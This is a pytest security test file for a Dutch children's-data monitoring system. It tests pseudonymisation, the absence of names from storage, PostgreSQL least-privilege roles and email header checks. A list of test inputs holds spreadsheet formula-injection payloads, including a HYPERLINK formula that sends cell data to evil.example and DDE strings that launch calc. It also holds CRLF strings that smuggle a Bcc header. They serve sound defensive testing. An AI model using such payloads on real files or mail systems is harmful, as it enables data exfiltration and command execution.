"""Children's data stays safe: pseudonyms only, no names, least-privilege roles, inert output files."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import hashlib
import hmac
import json
import uuid
import zipfile

import openpyxl
import pytest
from alembic import command
from sqlalchemy import MetaData, String, Text, create_engine, insert, select, text
from sqlalchemy.exc import ProgrammingError

from flows.failure_output import render
from kansenmonitor.db import Attendance, IndicatorValue, QuarantinedRow, make_engine
from kansenmonitor.migrate import alembic_config, migrate
from tasks.ingest.correction_workbook import write_correction_workbook
from tasks.ingest.failures import by_source, failed_rows, write_correction_csvs
from tasks.ingest.files import ingest_file
from tasks.ingest.pseudonymise import KEY_VARIABLE, SECRET_BLOCK_VARIABLE, MissingKeyError, pseudonym_key
from tests.conftest import ROOT
from tests.deliveries import attendance, planning, present, session, write_csv, write_xlsx

KEY = b"security-test-key"
PUPILS = ["470392815", "470392816", "470392817", "470392818", "470392819"]
FORMS_HEADER = ["ID", "Begintijd", "Tijd van voltooien", "E-mail", "Naam", "Op welke school zit je?",
                "In welke groep zit je?", "Ik voel me veilig bij de activiteiten",
                "Ik weet bij wie ik terecht kan als er iets is", "Hoe leuk vond je de activiteiten?",
                "Wat zou je nog eens willen doen?"]


def pseudonym(school: str, pupil: str) -> str:
    return hmac.new(KEY, f"{school}|{pupil}".encode(), hashlib.sha256).hexdigest()


def stored_text(engine) -> str:
    """Every text value of every table, one per line: what a database dump would reveal."""
    metadata = MetaData()
    metadata.reflect(engine)
    values = []
    with engine.connect() as conn:
        for table in metadata.sorted_tables:
            columns = [c for c in table.columns if isinstance(c.type, (String, Text))]
            if columns:
                values += [v for row in conn.execute(select(*columns)) for v in row if v]
    return "\n".join(values)


def test_without_a_key_kansenmonitor_refuses_to_store_pupil_data(monkeypatch):
    monkeypatch.delenv(KEY_VARIABLE, raising=False)
    monkeypatch.delenv(SECRET_BLOCK_VARIABLE, raising=False)
    with pytest.raises(MissingKeyError) as refused:
        pseudonym_key(demo=False)
    assert str(refused.value) == (
        "no pseudonymisation key: set KANSENMONITOR_PSEUDONYM_KEY (or KANSENMONITOR_PSEUDONYM_SECRET_BLOCK naming "
        "a Prefect Secret block) to the deployment's secret; kansenmonitor refuses to store pupil data without it")
    assert pseudonym_key(demo=True) == b"kansenmonitor-demo-key-not-for-real-data"


def test_the_key_can_come_from_a_prefect_secret_block(prefect_harness, monkeypatch):
    from prefect.blocks.system import Secret

    name = f"pseudonym-key-{uuid.uuid4().hex[:8]}"
    Secret(value="key-from-the-block-at-least-32-bytes").save(name)
    monkeypatch.delenv(KEY_VARIABLE, raising=False)
    monkeypatch.setenv(SECRET_BLOCK_VARIABLE, name)
    assert pseudonym_key() == b"key-from-the-block-at-least-32-bytes"


def _attendance_with_failures(engine, backpack, tmp_path):
    """Planning, then attendance: two rows load, four fail in ways that keep the row in quarantine."""
    ingest_file(engine, backpack, write_csv(tmp_path / "planning.csv", planning(session())), KEY)
    rows = attendance(present(PUPILS[0]), present(PUPILS[1], marker="nee"),
                      present(PUPILS[2], date="19-09-2024"),          # session not planned
                      present(PUPILS[3], school="De Kleine Prins"),   # unknown school
                      present(PUPILS[0]),                              # duplicate of the first row
                      present(PUPILS[4], group="12"))                  # impossible group
    return ingest_file(engine, backpack, write_csv(tmp_path / "aanwezigheid.csv", rows), KEY)


def test_pupil_numbers_appear_nowhere_in_the_database(engine, backpack, tmp_path):
    result = _attendance_with_failures(engine, backpack, tmp_path)
    assert (result.rows_loaded, result.rows_quarantined) == (2, 4)
    dump = stored_text(engine)
    assert [p for p in PUPILS if p in dump] == []
    with engine.connect() as conn:
        stored = conn.execute(select(Attendance.pupil).order_by(Attendance.source_row)).scalars().all()
        raws = [json.loads(r) for r in conn.execute(select(QuarantinedRow.raw).order_by(QuarantinedRow.row_number))
                .scalars()]
    assert stored == [pseudonym("OBS de Aanloop", PUPILS[0]), pseudonym("OBS de Aanloop", PUPILS[1])]
    assert [r["Leerling"][:4] for r in raws] == ["PSN-", "", "PSN-", "PSN-"]
    assert all(len(r["Leerling"]) <= 50 for r in raws)


def test_a_corrected_attendance_row_is_still_the_same_child(engine, backpack, tmp_path):
    _attendance_with_failures(engine, backpack, tmp_path)
    not_planned = [r for r in failed_rows(engine) if r.raw["Datum"] == "19-09-2024"]
    sheet = write_correction_workbook(by_source(not_planned), tmp_path / "correctie.xlsx", backpack)
    assert not any(p in json.dumps([c.value for row in openpyxl.load_workbook(sheet).active.iter_rows()
                                    for c in row], default=str) for p in PUPILS)
    (tmp_path / "v2").mkdir()
    ingest_file(engine, backpack, write_csv(tmp_path / "v2" / "planning2.csv",
                                            planning(session(date="19-09-2024"))), KEY)
    result = ingest_file(engine, backpack, sheet, KEY)
    assert (result.source, result.rows_loaded, result.rows_quarantined) == ("aanwezigheid", 1, 0)
    with engine.connect() as conn:
        child = conn.execute(select(Attendance.pupil).where(Attendance.delivery_id == result.delivery_id)).scalar()
    assert child == pseudonym("OBS de Aanloop", PUPILS[2])
    assert [r.raw["Datum"] for r in failed_rows(engine)] == ["12-09-2024", "12-09-2024", "12-09-2024"]


def test_child_names_and_email_addresses_are_never_stored(engine, backpack, tmp_path):
    rows = [FORMS_HEADER,
            ["1", "2024-10-01 10:00", "2024-10-01 10:05", "sanne.devries@school.nl", "Sanne de Vries",
             "OBS de Aanloop", "5", "Ja", "Ja", "4", "Meer voetbal"],
            ["2", "2024-10-01 10:00", "2024-10-01 10:06", "bram.jansen@school.nl", "Bram Jansen",
             "Onbekende School", "5", "Ja", "Ja", "4", "Dansen"],
            ["3", "2024-10-01 10:00", "31-02-2025", "eva.smit@school.nl", "Eva Smit",
             "OBS de Aanloop", "negen", "Soms", "Ja", "7", ""]]
    result = ingest_file(engine, backpack, write_xlsx(tmp_path / "kindvragenlijst.xlsx", rows), KEY)
    assert (result.rows_loaded, result.rows_quarantined) == (1, 2)
    written = write_correction_csvs(failed_rows(engine), tmp_path / "correctie.csv")
    written.append(_listing_csv(failed_rows(engine), tmp_path / "fouten.csv"))
    everything = stored_text(engine) + "".join(p.read_text(encoding="utf-8-sig") for p in written)
    personal = ["Sanne", "Vries", "Bram", "Jansen", "Eva Smit", "@school.nl", "Naam", "E-mail"]
    assert [p for p in personal if p in everything] == []
    assert "Meer voetbal" in everything and "Onbekende School" in everything


HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "<script>alert('x')</script>", "=1+1"]


def _listing_csv(rows, path):
    """`failures --format csv` as a file."""
    path.write_text(render(rows, "csv"), encoding="utf-8")
    return path


def _quarantine_hostile_titles(engine, backpack, tmp_path):
    sessions = [session(title=t, date="31-02-2025") for t in HOSTILE]
    ingest_file(engine, backpack, write_csv(tmp_path / "planning.csv", planning(*sessions)), KEY)
    return failed_rows(engine)


def test_formulas_are_neutralised_in_every_written_csv(engine, backpack, tmp_path):
    rows = _quarantine_hostile_titles(engine, backpack, tmp_path)
    [sheet] = write_correction_csvs(rows, tmp_path / "correctie.csv")
    listing = _listing_csv(rows, tmp_path / "fouten.csv")
    for path in (sheet, listing):
        with path.open(encoding="utf-8-sig", newline="") as handle:
            cells = [c for line in csv.reader(handle, delimiter=";") for c in line]
        assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    with sheet.open(encoding="utf-8-sig", newline="") as handle:
        titles = [line[6] for line in csv.reader(handle, delimiter=";")][1:]
    assert titles == ["'" + t if t[0] in "=+-@" else t for t in HOSTILE]


def test_formulas_in_a_written_xlsx_are_text_and_round_trip(engine, backpack, tmp_path):
    rows = _quarantine_hostile_titles(engine, backpack, tmp_path)
    sheet = write_correction_workbook(by_source(rows), tmp_path / "correctie.xlsx", backpack)
    with zipfile.ZipFile(sheet) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    cells = openpyxl.load_workbook(sheet).active
    assert [(c.value, c.data_type) for c in cells["G"]][1:] == [(t, "s") for t in HOSTILE]
    result = ingest_file(engine, backpack, sheet, KEY)
    assert (result.rows_read, result.rows_quarantined) == (len(HOSTILE), len(HOSTILE))
    assert sorted(r.raw["Activiteit"] for r in failed_rows(engine, file="correctie.xlsx")) == sorted(HOSTILE)


# --- roles (PostgreSQL only) ------------------------------------------------------------------------------

@pytest.fixture
def login_as(pg_url, pg_admin_url):
    """Login users made members of a kansenmonitor group role, the way a deployment would; dropped afterwards."""
    admin = create_engine(pg_admin_url, isolation_level="AUTOCOMMIT")
    made, engines = [], []

    def login(group: str):
        user = f"km_{group.rsplit('_', 1)[1]}_{uuid.uuid4().hex[:8]}"
        with admin.connect() as conn:
            conn.execute(text(f"CREATE ROLE {user} LOGIN IN ROLE {group}"))
        made.append(user)
        engines.append(make_engine(pg_url.replace("postgres@", f"{user}@")))
        return engines[-1]

    migrate(pg_url)
    yield login
    for engine in engines:
        engine.dispose()
    with admin.connect() as conn:
        for user in made:
            conn.execute(text(f"DROP ROLE {user}"))
    admin.dispose()


def _refused(engine, statement: str) -> str:
    with pytest.raises(ProgrammingError) as refused, engine.begin() as conn:
        conn.execute(text(statement))
    return str(refused.value.orig).splitlines()[0]


def test_reader_sees_the_indicator_view_and_nothing_else(pg_url, login_as):
    owner = make_engine(pg_url)
    with owner.begin() as conn:
        conn.execute(insert(IndicatorValue), [
            dict(coalition="c", period="2024-2025-H1", indicator="veiligheid_kinderen", scope="coalition",
                 scope_name="c", value=0.9, numerator=9, denominator=10, status="met", suppressed=False,
                 computed_at=dt.datetime(2025, 1, 5)),
            dict(coalition="c", period="2024-2025-H1", indicator="veiligheid_kinderen", scope="area",
                 scope_name="Valthermond", value=1.0, numerator=3, denominator=3, status="met", suppressed=True,
                 computed_at=dt.datetime(2025, 1, 5))])
    owner.dispose()
    reader = login_as("kansenmonitor_reader")
    with reader.connect() as conn:
        shown = conn.execute(text("SELECT scope_name, value, numerator, denominator, suppressed "
                                  "FROM indicator_report ORDER BY scope")).all()
    assert shown == [("Valthermond", None, None, None, True), ("c", 0.9, 9, 10, False)]
    for table in ("attendance", "child_response", "quarantined_row", "quarantine_reason", "delivery",
                  "indicator_value", "report_dispatch"):
        assert _refused(reader, f"SELECT * FROM {table}") == f"permission denied for table {table}"
    assert _refused(reader, "INSERT INTO indicator_report (coalition) VALUES ('x')") == \
        "permission denied for view indicator_report"


def test_loader_loads_a_delivery_but_cannot_delete_drop_or_alter(login_as, backpack, tmp_path):
    loader = login_as("kansenmonitor_loader")
    migrate(loader.url.render_as_string(hide_password=False))
    ingest_file(loader, backpack, write_csv(tmp_path / "planning.csv", planning(session())), KEY)
    result = ingest_file(loader, backpack, write_csv(tmp_path / "a.csv", attendance(
        present(PUPILS[0]), present(PUPILS[1], school="Onbekend"))), KEY)
    assert (result.status, result.rows_loaded, result.rows_quarantined) == ("loaded", 1, 1)
    assert _refused(loader, "DELETE FROM attendance") == "permission denied for table attendance"
    assert _refused(loader, "TRUNCATE delivery") == "permission denied for table delivery"
    assert _refused(loader, "DROP TABLE attendance") == "must be owner of table attendance"
    assert _refused(loader, "ALTER TABLE attendance ADD COLUMN name text") == "must be owner of table attendance"
    assert _refused(loader, "CREATE TABLE stash (pupil text)") == "permission denied for schema public"
    assert _refused(loader, "UPDATE alembic_version SET version_num = '0001'") == \
        "permission denied for table alembic_version"


def test_the_loader_closes_a_period_gate_indicators_reports_and_mail(prefect_harness, login_as, backpack, tmp_path):
    from flows.close_period import close_period

    loader = login_as("kansenmonitor_loader")
    url = loader.url.render_as_string(hide_password=False)
    ingest_file(loader, backpack, write_csv(tmp_path / "planning.csv", planning(session())), KEY)
    ingest_file(loader, backpack, write_csv(tmp_path / "a.csv", attendance(present(PUPILS[0]), present(PUPILS[1]))),
                KEY)
    result = asyncio.run(close_period(str(ROOT / "config" / "borger-odoorn.yaml"), "2024-2025-H1", url,
                                      str(tmp_path / "out")))
    assert result["quality"].page.exists()
    assert (tmp_path / "out" / "indicatoren-2024-2025-H1.csv").read_text(encoding="utf-8").count("\n") > 10
    assert {d.status for d in result["dispatches"]} == {"sent"}
    assert len(list((tmp_path / "out" / "outbox").glob("*.eml"))) == len(result["dispatches"])


def test_no_application_role_owns_anything_and_every_table_is_granted(pg_url):
    migrate(pg_url)
    engine = make_engine(pg_url)
    with engine.connect() as conn:
        owners = set(conn.execute(text(
            "SELECT tableowner FROM pg_tables WHERE schemaname = 'public' "
            "UNION SELECT viewowner FROM pg_views WHERE schemaname = 'public'")).scalars())
        ungranted = conn.execute(text(
            "SELECT c.relname FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace "
            "WHERE n.nspname = 'public' AND c.relkind = 'r' AND c.relname <> 'alembic_version' "
            "AND NOT has_table_privilege('kansenmonitor_loader', c.oid, 'INSERT')")).scalars().all()
        reader_can_read = conn.execute(text(
            "SELECT c.relname FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace "
            "WHERE n.nspname = 'public' AND c.relkind IN ('r', 'v') "
            "AND has_table_privilege('kansenmonitor_reader', c.oid, 'SELECT')")).scalars().all()
        logins = conn.execute(text("SELECT rolname, rolcanlogin FROM pg_roles WHERE rolname LIKE 'kansenmonitor_%' "
                                   "ORDER BY rolname")).all()
    engine.dispose()
    assert owners == {"postgres"}
    assert ungranted == []
    assert reader_can_read == ["indicator_report"]
    assert logins == [("kansenmonitor_loader", False), ("kansenmonitor_reader", False)]


def test_roles_survive_a_second_database_and_downgrade_revokes(pg_url, tmp_path):
    migrate(pg_url)
    command.downgrade(alembic_config(pg_url), "0001")
    engine = make_engine(pg_url)
    with engine.connect() as conn:
        granted = conn.execute(text(
            "SELECT count(*) FROM information_schema.role_table_grants "
            "WHERE grantee IN ('kansenmonitor_loader', 'kansenmonitor_reader')")).scalar()
        view = conn.execute(text("SELECT count(*) FROM pg_views WHERE viewname = 'indicator_report'")).scalar()
    engine.dispose()
    assert (granted, view) == (0, 0)
    migrate(pg_url)
    sqlite_url = f"sqlite:///{tmp_path / 'demo.db'}"
    migrate(sqlite_url)
    with make_engine(sqlite_url).connect() as conn:
        assert conn.execute(text("SELECT count(*) FROM indicator_report")).scalar() == 0


def test_no_header_injection_through_recipients_or_sender(backpack, tmp_path, monkeypatch):
    from reports.build import Report
    from tasks.deliver.mail import compose, smtp_settings

    forged = Report("stuurgroep", None, "Rapport", "<p>x</p>", "x", tmp_path / "x.html", tmp_path / "x.pdf", [],
                    ["stuurgroep@backpack.example\r\nBcc: iedereen@example.com"])
    with pytest.raises(ValueError) as refused:
        compose(forged, "kansenmonitor@backpack.example")
    assert str(refused.value) == ("refusing to put a line break into an email header: the recipient "
                                  "'stuurgroep@backpack.example\\r\\nBcc: iedereen@example.com' contains one")
    monkeypatch.setenv("KANSENMONITOR_SMTP_SENDER", "monitor@example.org\nBcc: iedereen@example.com")
    with pytest.raises(ValueError, match="the sender 'monitor@example.org\\\\nBcc: iedereen@example.com' contains one"):
        smtp_settings(backpack)
